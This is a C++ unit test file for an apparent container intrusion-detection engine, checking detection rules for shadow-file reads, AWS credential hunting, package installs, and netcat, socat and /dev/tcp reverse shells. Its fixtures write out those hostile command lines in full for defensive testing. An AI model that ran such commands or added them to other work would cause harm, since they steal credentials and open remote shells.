// The built-in rules against the ways an attacker actually does each thing.
#include <gtest/gtest.h>

#include <algorithm>

#include "sandwatch/core/rules/engine.h"
#include "sandwatch/core/rules/loader.h"
#include "sandwatch/core/signals.h"
#include "test_util.h"

namespace sandwatch::rules {
namespace {

using testing::AddFile;
using testing::AddSocket;
using testing::FakeWorld;
using testing::Proc;

class DefaultRules : public ::testing::Test {
 protected:
  DefaultRules() : engine_(Load(), {"sleep"}) {
    world_.baseline = {"/usr/bin/cat", "/usr/bin/bash", "/usr/bin/dash",  "/usr/bin/find",
                       "/usr/bin/sh",  "/usr/bin/nc",   "/usr/bin/socat", "/usr/bin/busybox"};
  }
  static RuleSet Load() {
    auto r = rules::DefaultRules();
    EXPECT_TRUE(r.ok()) << r.error().message;
    return r.ok() ? std::move(r.value()) : RuleSet{};
  }
  std::vector<std::string> Fired(const ProcessInfo& p, std::optional<std::string> path = {}) {
    std::vector<std::string> out;
    for (const auto& m : engine_.Evaluate({&p, std::move(path)}, world_)) {
      out.push_back(m.rule->name);
    }
    return out;
  }
  bool Fires(const ProcessInfo& p, std::string_view rule) {
    auto f = Fired(p);
    return std::find(f.begin(), f.end(), rule) != f.end();
  }
  RuleEngine engine_;
  FakeWorld world_;
};

TEST_F(DefaultRules, ShipTheSeedSignalsAndTheExtraRules) {
  std::vector<std::string> names;
  for (const auto& r : engine_.rules().rules) names.push_back(r.name);
  for (auto seed : signals::kSeedSignals) {
    EXPECT_NE(std::find(names.begin(), names.end(), seed), names.end()) << seed;
  }
  for (auto extra : {signals::kReverseShell, signals::kSuspiciousOutboundConnection,
                     signals::kSuspiciousProcessChain}) {
    EXPECT_NE(std::find(names.begin(), names.end(), extra), names.end()) << extra;
  }
}

TEST_F(DefaultRules, ShadowReadByAnyProgram) {
  for (auto argv :
       std::vector<std::vector<std::string>>{{"cat", "/etc/shadow"},
                                             {"head", "-n1", "/etc/shadow"},
                                             {"tail", "-f", "/etc/shadow"},
                                             {"less", "/etc/gshadow"},
                                             {"dd", "if=/etc/shadow", "of=/tmp/x"},
                                             {"python3", "-c", "print(open('/etc/shadow').read())"},
                                             {"cp", "/etc//shadow", "/tmp"}}) {
    auto p = Proc(argv[0], argv);
    EXPECT_TRUE(Fires(p, "shadow_file_access")) << argv[0];
  }
  // Opened without naming it (cd /etc; cat shadow) is caught through the fd.
  auto p = Proc("cat", {"cat", "shadow"});
  AddFile(&p, 3, "/etc/shadow");
  EXPECT_TRUE(Fires(p, "shadow_file_access"));
  EXPECT_TRUE(Fires(Proc("x", {"x"}), "shadow_file_access") == false);
  auto chk = Proc("unix_chkpwd", {"unix_chkpwd", "root"});
  AddFile(&chk, 3, "/etc/shadow");
  EXPECT_FALSE(Fires(chk, "shadow_file_access"));
  EXPECT_FALSE(Fires(Proc("grep", {"grep", "shadow", "/etc/nsswitch.conf"}), "shadow_file_access"));
}

TEST_F(DefaultRules, CredentialHunting) {
  for (auto argv :
       std::vector<std::vector<std::string>>{{"find", "/", "-iname", ".aws/credentials"},
                                             {"find", "/", "-path", "*/.aws/credentials"},
                                             {"find", "/", "-path", "*/.aws/*"},
                                             {"find", "/", "-iname", "credentials"},
                                             {"grep", "-r", "aws_secret_access_key", "/home"},
                                             {"grep", "-rE", "AKIA[0-9A-Z]{16}", "/"},
                                             {"cat", "/root/.aws/credentials"},
                                             {"locate", "credentials"}}) {
    EXPECT_TRUE(Fires(Proc(argv[0], argv), "aws_credential_discovery"))
        << argv[0] << " " << argv.back();
  }
  auto py = Proc("python3", {"python3", "loot.py"});
  AddFile(&py, 4, "/home/app/.aws/credentials");
  EXPECT_TRUE(Fires(py, "aws_credential_discovery"));
  EXPECT_FALSE(
      Fires(Proc("find", {"find", "/var/log", "-name", "*.log"}), "aws_credential_discovery"));
  // Naming is not reading.
  EXPECT_FALSE(Fires(Proc("ls", {"ls", "-la", "/root/.aws"}), "aws_credential_discovery"));
}

TEST_F(DefaultRules, PackageManagers) {
  for (auto argv :
       std::vector<std::vector<std::string>>{{"apt", "install", "ncat", "-y"},
                                             {"apt-get", "install", "-y", "ncat"},
                                             {"dpkg", "-i", "ncat.deb"},
                                             {"apk", "add", "nmap"},
                                             {"dnf", "install", "nc"},
                                             {"yum", "install", "nc"},
                                             {"pip", "install", "impacket"},
                                             {"python3", "-m", "pip", "install", "x"}}) {
    EXPECT_TRUE(Fires(Proc(argv[0], argv), "package_manager_execution")) << argv[0];
  }
  // dpkg run by apt is part of the apt run already reported.
  auto child =
      Proc("dpkg", {"/usr/bin/dpkg", "--status-fd", "35", "--configure"}, "", {"apt", "bash"});
  EXPECT_FALSE(Fires(child, "package_manager_execution"));
}

TEST_F(DefaultRules, NetcatWithExecOptions) {
  for (auto argv :
       std::vector<std::vector<std::string>>{{"ncat", "--exec", "/bin/sh", "10.244.0.1", "4444"},
                                             {"ncat", "--sh-exec", "id", "h", "1"},
                                             {"ncat", "--exec=/bin/sh", "h", "1"},
                                             {"nc", "-e", "/bin/sh", "h", "1"},
                                             {"nc", "-nve", "/bin/bash", "h", "1"},
                                             {"nc.traditional", "-c", "sh", "h", "1"},
                                             {"netcat", "-e/bin/sh", "h", "1"},
                                             {"socat", "TCP:h:1", "EXEC:/bin/sh,pty,stderr"},
                                             {"socat", "tcp:h:1", "system:sh"},
                                             {"busybox", "nc", "h", "1", "-e", "/bin/sh"}}) {
    EXPECT_TRUE(Fires(Proc(argv[0], argv), "nc_execution")) << JoinCmdline(argv);
  }
  for (auto argv : std::vector<std::vector<std::string>>{{"nc", "-lvnp", "4444"},
                                                         {"ncat", "-l", "4444"},
                                                         {"socat", "TCP-LISTEN:1", "STDOUT"},
                                                         {"nc", "-zv", "host", "80"}}) {
    EXPECT_FALSE(Fires(Proc(argv[0], argv), "nc_execution")) << JoinCmdline(argv);
  }
}

TEST_F(DefaultRules, UnexpectedShellExecVersusAppVersusSession) {
  auto exec_shell = Proc("bash", {"/bin/bash"}, "/usr/bin/bash", {});
  exec_shell.ppid = 0;  // kubectl exec: parent outside the pod's pid namespace
  EXPECT_TRUE(Fires(exec_shell, "unexpected_shell"));
  auto from_app = Proc("sh", {"sh", "-c", "id"}, "/usr/bin/dash", {"python3"});
  EXPECT_TRUE(Fires(from_app, "unexpected_shell"));
  auto nested = Proc("sh", {"sh", "-c", "while true; do find; done"}, "/usr/bin/dash", {"bash"});
  EXPECT_FALSE(Fires(nested, "unexpected_shell"));
  auto postinst = Proc("man-db.postinst", {"/bin/sh", "/var/lib/dpkg/info/man-db.postinst"},
                       "/usr/bin/dash", {"dpkg", "bash"});
  EXPECT_FALSE(Fires(postinst, "unexpected_shell"));
  auto busybox = Proc("busybox", {"busybox", "sh"}, "/usr/bin/busybox", {"python3"});
  EXPECT_TRUE(Fires(busybox, "unexpected_shell"));
  // With shells expected, an exec'd one (ppid 0) is still reported; an app's is not.
  RuleEngine lenient(Load(), {"sh", "bash", "sleep"});
  auto names = [&](const ProcessInfo& p) {
    std::vector<std::string> out;
    for (const auto& m : lenient.Evaluate({&p, {}}, world_)) out.push_back(m.rule->name);
    return out;
  };
  EXPECT_EQ(names(exec_shell), std::vector<std::string>{"unexpected_shell"});
  // python3 -> sh is still a suspicious chain, but not an unexpected shell.
  EXPECT_EQ(names(from_app), std::vector<std::string>{"suspicious_process_chain"});
}

TEST_F(DefaultRules, NcatExecReverseShellThroughPipes) {
  auto sh = Proc("sh", {"/bin/sh"}, "/usr/bin/dash", {"ncat", "bash"});
  sh.fds.push_back(FdInfo{0, FdKind::kPipe, "pipe:[31]", 31});
  sh.fds.push_back(FdInfo{1, FdKind::kPipe, "pipe:[32]", 32});
  world_.networked_pipe = 31;
  auto f = Fired(sh);
  EXPECT_NE(std::find(f.begin(), f.end(), "reverse_shell"), f.end());
  EXPECT_NE(std::find(f.begin(), f.end(), "suspicious_process_chain"), f.end());
  EXPECT_NE(std::find(f.begin(), f.end(), "unexpected_shell"), f.end());
  // bash -i >& /dev/tcp/H/P 0>&1: the socket itself on stdio.
  auto bash = Proc("bash", {"bash", "-i"}, "/usr/bin/bash", {"python3"});
  AddSocket(&bash, 0, 5, "10.0.0.2:5555", "10.244.0.1:4444");
  EXPECT_TRUE(Fires(bash, "reverse_shell"));
  EXPECT_TRUE(Fires(bash, "suspicious_outbound_connection"));
  // Loopback is allowed by the outbound rule, not by reverse_shell.
  auto lo = Proc("sh", {"sh"}, "/usr/bin/dash", {"ncat"});
  AddSocket(&lo, 3, 6, "127.0.0.1:40000", "127.0.0.1:4444");
  EXPECT_TRUE(Fires(lo, "reverse_shell"));
  EXPECT_FALSE(Fires(lo, "suspicious_outbound_connection"));
}

TEST_F(DefaultRules, PostStartBinaryAndExpectedProcessesAreQuiet) {
  EXPECT_TRUE(Fires(Proc("ncat", {"ncat"}, "/usr/bin/ncat"), "post_start_binary_execution"));
  EXPECT_TRUE(Fired(Proc("sleep", {"sleep", "3600"}, "/usr/bin/cat", {"sh"})).empty());
  auto curl = Proc("curl", {"curl", "http://x"}, "/usr/bin/cat", {"sh", "bash"});
  EXPECT_TRUE(Fires(curl, "suspicious_process_chain"));
}

}  // namespace
}  // namespace sandwatch::rules
